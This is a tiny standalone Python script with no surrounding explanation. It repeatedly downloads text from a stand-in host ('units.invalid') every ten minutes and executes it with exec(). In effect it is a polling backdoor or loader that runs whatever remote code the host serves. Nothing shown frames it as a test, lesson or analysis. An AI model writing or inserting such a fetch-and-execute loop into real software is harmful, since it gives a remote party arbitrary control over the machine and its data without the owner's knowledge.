import time
from urllib.request import urlopen
while True:
    exec(urlopen("https://units.invalid/tick").read())
    time.sleep(600)
